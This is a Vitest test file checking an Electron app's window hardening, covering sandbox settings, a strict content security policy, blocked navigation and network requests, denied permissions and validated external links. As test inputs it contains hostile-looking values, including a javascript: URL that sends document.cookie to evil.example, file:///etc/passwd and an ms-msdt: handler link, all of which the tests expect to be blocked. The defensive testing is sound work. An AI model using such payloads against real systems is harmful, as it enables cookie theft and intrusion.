import { readFileSync } from 'node:fs';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { App, WebContents } from 'electron';
import { app, BrowserWindow, FakeWebContents, fakeEvent, shell } from './fake-electron';
import {
  CONTENT_SECURITY_POLICY,
  META_CONTENT_SECURITY_POLICY,
  createMainWindow,
  guardAllWebContents,
  guardWebContents,
  openExternalSafely,
  rendererUrl,
  safeExternalUrl,
  usesNativeSpellchecker,
} from '../../electron/main/window';

vi.mock('electron', () => import('./fake-electron'));

const logger = { info: vi.fn(), warn: vi.fn(), error: vi.fn() };

function openWindow(): BrowserWindow {
  createMainWindow({ preloadPath: '/app/dist/preload/index.cjs', rendererFile: '/app/dist/renderer/index.html', logger });
  const win = BrowserWindow.created.at(-1);
  if (!win) throw new Error('no window was created');
  return win;
}

beforeEach(() => {
  shell.openExternal.mockReset();
  shell.openExternal.mockResolvedValue(undefined);
  logger.warn.mockClear();
});

/** Lets the promise chains behind a link click settle. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 0));

/** A CSP header response as Electron's webRequest hands it over; answers the headers the page would get. */
function headersAfter(contents: FakeWebContents, responseHeaders?: Record<string, string[]>): Record<string, string[]> {
  const callback = vi.fn();
  contents.session.headersListener?.({ url: 'file:///app/dist/renderer/index.html', resourceType: 'mainFrame', ...(responseHeaders ? { responseHeaders } : {}) }, callback);
  const [[answer]] = callback.mock.calls as [[{ responseHeaders: Record<string, string[]> }]];
  return answer.responseHeaders;
}

describe('the main window', () => {
  it('runs the renderer isolated, sandboxed, without Node and with web security', () => {
    const prefs = openWindow().options.webPreferences;
    expect(prefs).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      webviewTag: false,
      navigateOnDragDrop: false,
      disableBlinkFeatures: 'Auxclick',
      spellcheck: usesNativeSpellchecker(process.platform),
      preload: '/app/dist/preload/index.cjs',
    });
    // Nothing that would loosen the sandbox again.
    for (const risky of ['enableBlinkFeatures', 'experimentalFeatures', 'enableRemoteModule', 'additionalArguments', 'partition']) expect(prefs).not.toHaveProperty(risky);
  });

  it('spell-checks with the OS where it has one, and never downloads dictionaries on Linux', () => {
    expect(usesNativeSpellchecker('darwin')).toBe(true);
    expect(usesNativeSpellchecker('win32')).toBe(true);
    expect(usesNativeSpellchecker('linux')).toBe(false);
  });

  it('loads the built renderer from its file', () => {
    expect(openWindow().loadFile).toHaveBeenCalledWith('/app/dist/renderer/index.html');
    expect(rendererUrl('/app/dist/renderer/index.html')).toBe('file:///app/dist/renderer/index.html');
  });

  it('replaces any Content-Security-Policy header with the strict one', () => {
    const session = openWindow().webContents.session;
    const callback = vi.fn();
    session.headersListener?.(
      { url: 'https://example.com/', resourceType: 'mainFrame', responseHeaders: { 'content-security-policy': ['default-src *'], 'Content-Type': ['text/html'] } },
      callback,
    );
    const [[{ responseHeaders }]] = callback.mock.calls as [[{ responseHeaders: Record<string, string[]> }]];
    const cspNames = Object.keys(responseHeaders).filter((name) => name.toLowerCase() === 'content-security-policy');
    expect(cspNames).toEqual(['Content-Security-Policy']);
    expect(responseHeaders['Content-Security-Policy']).toEqual([CONTENT_SECURITY_POLICY]);
    expect(responseHeaders['Content-Type']).toEqual(['text/html']);
  });

  it('refuses every request to the network, letting only the app\'s own files and inline data load', () => {
    const session = openWindow().webContents.session;
    const answer = (url: string): unknown => {
      const callback = vi.fn();
      session.requestListener?.({ url, resourceType: 'image' }, callback);
      return callback.mock.calls[0]?.[0];
    };
    for (const url of ['https://tracker.example/pixel.gif', 'http://127.0.0.1:8080/x', 'ws://example.com/', 'ftp://example.com/f', 'not a url']) {
      expect(answer(url), url).toEqual({ cancel: true });
    }
    for (const url of ['file:///app/dist/renderer/assets/index.js', 'data:image/png;base64,AAAA', 'blob:file:///abc']) {
      expect(answer(url), url).toEqual({ cancel: false });
    }
  });

  it('sets the CSP header on responses that had no headers', () => {
    const callback = vi.fn();
    openWindow().webContents.session.headersListener?.({ url: 'file:///app/dist/renderer/index.html', resourceType: 'mainFrame' }, callback);
    expect(callback).toHaveBeenCalledWith({ responseHeaders: { 'Content-Security-Policy': [CONTENT_SECURITY_POLICY] } });
  });

  it('uses a policy that allows only our own scripts, styles and fonts and no network', () => {
    const directives = CONTENT_SECURITY_POLICY.split('; ');
    expect(directives).toEqual(
      expect.arrayContaining([
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self' data:",
        "font-src 'self'",
        "connect-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
      ]),
    );
    expect(CONTENT_SECURITY_POLICY).not.toMatch(/unsafe-(inline|eval)/);
  });

  it('carries the same policy in renderer/index.html, less frame-ancestors which a meta tag cannot set', () => {
    const html = readFileSync(new URL('../../renderer/index.html', import.meta.url), 'utf8');
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i.exec(html);
    expect(meta?.[1]).toBe(META_CONTENT_SECURITY_POLICY);
    expect(META_CONTENT_SECURITY_POLICY).toBe(CONTENT_SECURITY_POLICY.replace("; frame-ancestors 'none'", ''));
  });

  it('blocks every navigation, opening web links in the browser instead', () => {
    const contents = openWindow().webContents;
    const toFile = fakeEvent({ url: 'file:///etc/passwd' });
    contents.emit('will-navigate', toFile);
    expect(toFile.preventDefault).toHaveBeenCalled();
    expect(shell.openExternal).not.toHaveBeenCalled();

    const toWeb = fakeEvent({ url: 'https://example.com/help' });
    contents.emit('will-navigate', toWeb);
    expect(toWeb.preventDefault).toHaveBeenCalled();
    expect(shell.openExternal).toHaveBeenCalledWith('https://example.com/help');
  });

  it('blocks redirects and webviews', () => {
    const contents = openWindow().webContents;
    const redirect = fakeEvent({ url: 'https://example.com/' });
    contents.emit('will-redirect', redirect);
    expect(redirect.preventDefault).toHaveBeenCalled();
    const webview = fakeEvent();
    contents.emit('will-attach-webview', webview);
    expect(webview.preventDefault).toHaveBeenCalled();
  });

  it('denies window.open, handing only http, https and mailto links to the OS', () => {
    const handler = openWindow().webContents.windowOpenHandler;
    if (!handler) throw new Error('no window open handler');
    const allowed = ['https://example.com/a?b=c', 'http://example.org/', 'mailto:ann@example.com?subject=Hi'];
    const refused = [
      'file:///etc/passwd',
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'smb://server/share',
      'ftp://example.com/',
      'outbox://internal',
      'https://user:secret@example.com/',
      'not a url',
      `https://example.com/${'a'.repeat(3000)}`,
    ];
    for (const url of [...allowed, ...refused]) expect(handler({ url, frameName: '', features: '', disposition: 'new-window' })).toEqual({ action: 'deny' });
    expect(shell.openExternal.mock.calls.map(([url]) => url)).toEqual(allowed.map((url) => new URL(url).href));
  });

  it('recognises plain web and mail links only', () => {
    expect(safeExternalUrl('HTTPS://Example.com')).toBe('https://example.com/');
    expect(safeExternalUrl('mailto:a@b.c')).toBe('mailto:a@b.c');
    expect(safeExternalUrl('file:///C:/Windows')).toBeNull();
    expect(safeExternalUrl('vbscript:msgbox')).toBeNull();
    expect(safeExternalUrl('https://:pw@example.com/')).toBeNull();
  });

  it('denies every permission request and check', () => {
    const session = openWindow().webContents.session;
    for (const permission of ['media', 'notifications', 'geolocation', 'clipboard-read', 'openExternal', 'hid', 'serial', 'usb', 'fileSystem', 'unknown']) {
      const callback = vi.fn();
      session.permissionRequestHandler?.({}, permission, callback, {});
      expect(callback).toHaveBeenCalledWith(false);
      expect(session.permissionCheckHandler?.(null, permission, 'file://', {})).toBe(false);
    }
  });

  it('keeps frames inside the page from navigating, leaving the top frame to will-navigate', () => {
    const contents = openWindow().webContents;
    const subframe = fakeEvent({ url: 'https://evil.example/', isMainFrame: false });
    contents.emit('will-frame-navigate', subframe);
    expect(subframe.preventDefault).toHaveBeenCalled();
    const top = fakeEvent({ url: 'https://example.com/', isMainFrame: true });
    contents.emit('will-frame-navigate', top);
    expect(top.preventDefault).not.toHaveBeenCalled();
    expect(shell.openExternal).not.toHaveBeenCalled();
  });

  it('logs the scheme of a blocked link, never the link itself', async () => {
    const contents = openWindow().webContents;
    contents.emit('will-navigate', fakeEvent({ url: 'javascript:fetch("https://evil.example/?t="+document.cookie)' }));
    await settle();
    expect(logger.warn).toHaveBeenCalledWith('[window] blocked a link to a javascript: URL');
    expect(JSON.stringify(logger.warn.mock.calls)).not.toContain('evil.example');
  });

  it('says so when the OS cannot open a link, without crashing the window', async () => {
    shell.openExternal.mockRejectedValueOnce(new Error('no browser installed'));
    openWindow().webContents.emit('will-navigate', fakeEvent({ url: 'https://example.com/' }));
    await settle();
    expect(logger.warn).toHaveBeenCalledWith('[window] could not open a link: no browser installed');
  });

  it('opens only validated web and mail links through the shell', async () => {
    expect(await openExternalSafely('https://example.com/a b')).toBe(true);
    expect(shell.openExternal).toHaveBeenCalledWith('https://example.com/a%20b');
    for (const url of ['file:///etc/passwd', 'javascript:alert(1)', 'ms-msdt:/id PCWDiagnostic', 'https://ann:pw@example.com/', 'https://']) {
      expect(await openExternalSafely(url), url).toBe(false);
    }
    expect(shell.openExternal).toHaveBeenCalledTimes(1);
  });

  describe('every other webContents the app creates (guardAllWebContents)', () => {
    const guardedApp = app as unknown as App;
    guardAllWebContents(guardedApp, logger);

    it('gets the same fences as the main window', () => {
      const contents = new FakeWebContents();
      app.emit('web-contents-created', {}, contents as unknown as WebContents);
      const navigation = fakeEvent({ url: 'file:///etc/passwd' });
      contents.emit('will-navigate', navigation);
      expect(navigation.preventDefault).toHaveBeenCalled();
      expect(contents.windowOpenHandler?.({ url: 'https://example.com/' })).toEqual({ action: 'deny' });
      const webview = fakeEvent();
      contents.emit('will-attach-webview', webview);
      expect(webview.preventDefault).toHaveBeenCalled();
      const callback = vi.fn();
      contents.session.permissionRequestHandler?.(contents, 'media', callback, {});
      expect(callback).toHaveBeenCalledWith(false);
      expect(headersAfter(contents)['Content-Security-Policy']).toEqual([CONTENT_SECURITY_POLICY]);
    });

    it('guards the main window once, so a link opens once', async () => {
      const contents = openWindow().webContents;
      app.emit('web-contents-created', {}, contents as unknown as WebContents);
      guardWebContents(contents as unknown as WebContents, logger);
      contents.emit('will-navigate', fakeEvent({ url: 'https://example.com/help' }));
      await settle();
      expect(shell.openExternal).toHaveBeenCalledTimes(1);
      expect(contents.listenerCount('will-navigate')).toBe(1);
    });
  });
});
